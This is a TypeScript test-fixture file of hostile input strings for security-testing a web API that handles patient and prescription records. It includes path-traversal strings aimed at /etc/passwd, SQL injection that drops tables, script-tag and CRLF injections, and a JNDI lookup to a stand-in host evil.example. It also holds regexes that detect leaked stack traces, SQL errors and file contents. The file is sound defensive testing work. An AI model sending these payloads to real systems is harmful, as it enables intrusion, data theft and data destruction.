// Hostile strings. Each has a name (the test title) and the value; path values are given as they go on
// the wire (already percent-encoded where a raw byte would not be a legal request target).

export interface Payload {
  name: string;
  value: string;
}

/** What goes into a `:param` segment of a route path, as sent on the wire. */
export const PATH_PARAM_PAYLOADS: Payload[] = [
  { name: 'dot-dot traversal, raw', value: '..' },
  { name: 'traversal to /etc/passwd, encoded slashes', value: '..%2F..%2F..%2F..%2Fetc%2Fpasswd' },
  { name: 'traversal, double-encoded', value: '..%252F..%252Fetc%252Fpasswd' },
  { name: 'traversal, encoded dots', value: '%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
  { name: 'traversal, backslashes', value: '..%5C..%5Cwindows%5Cwin.ini' },
  { name: 'overlong UTF-8 slash', value: '%c0%af..%c0%afetc%c0%afpasswd' },
  { name: 'null byte', value: 'ms%00.json' },
  { name: 'SQL injection (quote)', value: "ms'%20OR%20'1'='1" },
  { name: 'SQL injection (stacked)', value: 'ms%3B%20DROP%20TABLE%20patient%3B--' },
  { name: 'script tag', value: '%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
  { name: 'CRLF header injection', value: 'ms%0D%0ASet-Cookie:%20pwned=1' },
  { name: 'RTL override', value: 'ms%E2%80%AEgnp.exe' },
  { name: 'JNDI lookup', value: '%24%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D' },
  { name: 'prototype key', value: '__proto__' },
  { name: 'constructor key', value: 'constructor' },
  { name: 'lone percent (malformed encoding)', value: '%' },
  { name: 'invalid UTF-8 in percent-encoding', value: '%FF%FE%FD' },
  { name: 'homoglyph id (Cyrillic s)', value: 'm%D1%95' },
  { name: 'oversized id (4 KB)', value: 'a'.repeat(4096) },
  { name: 'FHIR reference instead of id', value: 'Patient%2Fms' },
];

/** Strings put into every text field of an otherwise valid body, and into query values. */
export const TEXT_PAYLOADS: Payload[] = [
  { name: 'script tag', value: '<script>alert("x")</script>' },
  { name: 'img onerror', value: '"><img src=x onerror=alert(1)>' },
  { name: 'SQL injection', value: "x'); DROP TABLE prescription; --" },
  { name: 'CRLF', value: 'x\r\nSet-Cookie: pwned=1\r\n\r\n<html>' },
  { name: 'RTL override', value: 'Ola \u202Enosnah\u202C Nordmann' },
  { name: 'null byte', value: 'x\u0000y' },
  { name: 'XML markup', value: ']]><!--<![CDATA[--><x/>' },
  { name: 'format string and template', value: '%s%n%x ${7*7} {{7*7}}' },
];

/** Markers that must never appear in an answer (after the request's own payloads are removed from it). */
export const LEAK_PATTERNS: { name: string; re: RegExp }[] = [
  { name: 'stack frame', re: /\n\s+at |\bat (?:async )?[\w$.<>]+ \([^)]*:\d+:\d+\)|\bat (?:file|node):\S*:\d+/ },
  { name: 'source file path', re: /\/work\/|\/src\/|node_modules|\.ts:\d+|file:\/\// },
  { name: 'error class text', re: /\b(?:Type|Reference|Range|Syntax)?Error:/ },
  { name: 'SQL text', re: /\bselect\b[^"]{0,80}\bfrom\b|\binsert into\b|syntax error at or near|violates (?:unique|foreign key|check) constraint|relation "[a-z_]+"/i },
  { name: 'PostgreSQL internals', re: /\bpg_[a-z_]+|SQLSTATE|pglite/i },
  { name: 'socket error', re: /ECONNREFUSED|ECONNRESET|EPIPE/ },
  { name: 'file contents', re: /root:x:0:0|\[extensions\]|\/bin\/(?:ba)?sh/ },
];
